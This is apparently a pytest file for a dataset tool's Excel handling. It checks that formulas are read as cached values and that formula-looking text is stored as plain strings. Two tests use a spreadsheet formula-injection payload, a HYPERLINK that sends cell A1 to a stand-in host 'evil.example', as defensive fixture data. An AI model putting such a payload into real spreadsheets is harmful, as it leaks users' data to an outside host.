"""Formulas: read as the values Excel computed, remembered across EditForge's own saves; never written."""

from __future__ import annotations

import json

import openpyxl

from editforge.dataset import import_to_workbook, load_samples
from editforge.inference.metadata import read_params
from editforge.sheet.fake import fake_generator
from editforge.sheet.synth import SynthOptions, dry_run
from editforge.sheet.workbook import create_workbook, open_workbook
from tests.helpers import make_workbook, run_synth
from tests.xlsx import with_cached_values

HEADERS = ["raw_image", "ref_image_1", "ref_image_2", "ref_image_3", "gen_edit_prompt", "need_gen", "colour"]


def formula_book(tmp_path):
    """Rows whose prompt and need_gen are formulas, as Excel saved them (values cached), but rows 4 and 5."""
    path = make_workbook(tmp_path, rows=[])
    wb = openpyxl.Workbook()
    wb.active.append(HEADERS)
    wb.active.append(["img/r0.png", None, None, None, '="make the "&G2&" red"', "=TRUE()", "car"])
    wb.active.append(["img/r1.png", None, None, None, '="paint it "&G3', "=1=2", "blue"])
    wb.active.append(["img/r2.png", None, None, None, '=UPPER("no value cached")', True, "x"])
    wb.active.append(["img/r0.png", "img/r1.png", None, None, '=LOWER("NOT CACHED")', False, "y"])
    wb.save(path)
    return with_cached_values(path, {"E2": "make the car red", "F2": True, "E3": "paint it blue", "F3": False})


def recording():
    made, good = [], fake_generator()

    def generate(images, prompt, seed):
        made.append(prompt)
        return good(images, prompt, seed)
    return generate, made


def test_formulas_are_read_as_computed_values_and_remembered_across_saves(tmp_path):
    path = formula_book(tmp_path)
    assert "gen_ref        1" in dry_run(path, SynthOptions())  # the dry run reads values too
    generate, made = recording()
    summary = run_synth(path, generate, seed=1)
    assert made == ["make the car red"]  # not the formula's text; =1=2 computed FALSE: row 3 not wanted
    book = open_workbook(path)
    assert read_params(tmp_path / book.get(2, "ref_image_1"))["prompt"] == "make the car red"
    assert summary.failures == [(4, 'gen_edit_prompt: the cell holds a formula without a computed value '
                                    '(=UPPER("no value cached")); open and save the workbook in Excel or LibreOffice, '
                                    'or type the value')]
    # EditForge saved the file with openpyxl, which keeps the formulas but drops every cached value ...
    ws = openpyxl.load_workbook(path).active
    assert ws["E3"].value == '="paint it "&G3' and ws["F3"].value == "=1=2"
    assert openpyxl.load_workbook(path, data_only=True).active["E3"].value is None
    # ... so the next run gets row 3's prompt from the journal, which remembered it for that formula
    ws["F3"] = True
    openpyxl.Workbook.save(ws.parent, path)
    generate, made = recording()
    assert run_synth(path, generate, seed=1).generated == 1 and made == ["paint it blue"]
    # a changed formula is not the remembered one: without a value from Excel, the row fails in one line
    wb = openpyxl.load_workbook(path)
    wb.active["E3"], wb.active["F3"], wb.active["B3"] = '="paint it "&G3&" now"', True, None
    wb.save(path)
    generate, made = recording()
    summary = run_synth(path, generate, seed=1)
    assert made == [] and 'without a computed value (="paint it "&G3&" now")' in summary.failures[0][1]


def test_the_dataset_reader_gets_remembered_values_too(tmp_path):
    path = formula_book(tmp_path)
    run_synth(path, recording()[0], seed=1)  # saves the workbook: cached values gone, the journal has them
    data = load_samples(path)
    by_key = {s.key: s for s in data.samples}
    assert by_key["row 2"].instruction == "make the car red" and by_key["row 2"].problems == ()
    assert by_key["row 5"].problems[0].startswith("gen_edit_prompt: the cell holds a formula without a computed value")


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
    caption = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    created = create_workbook(tmp_path / "new.xlsx", ["raw_image", "gen_edit_prompt"], [["a.png", caption]])
    book = open_workbook(created)
    book.set(2, "review", "=1+1")  # anything EditForge writes, e.g. a review verdict or a status
    book.save()
    ws = openpyxl.load_workbook(created).active
    assert (ws["B2"].value, ws["B2"].data_type) == (caption, "s")
    assert (ws["C2"].value, ws["C2"].data_type) == ("=1+1", "s") and ws["C2"].quotePrefix


def test_an_imported_caption_is_text_in_the_workbook_and_byte_exact_in_trainer_files(tmp_path, make_image):
    caption = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    make_image("ds/t.png", seed=1), make_image("ds/c.png", seed=2)
    (tmp_path / "ds" / "metadata.json").write_text(json.dumps([{"image": "t.png", "edit_image": ["c.png"],
                                                                 "prompt": caption}]))
    out, _ = import_to_workbook(load_samples(tmp_path / "ds").samples, tmp_path / "ds" / "imported.xlsx")
    ws = openpyxl.load_workbook(out).active
    cells = [c for c in ws[2] if c.value == caption]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)  # gen_edit_prompt and edit_prompt
    assert load_samples(out).samples[0].instruction == caption
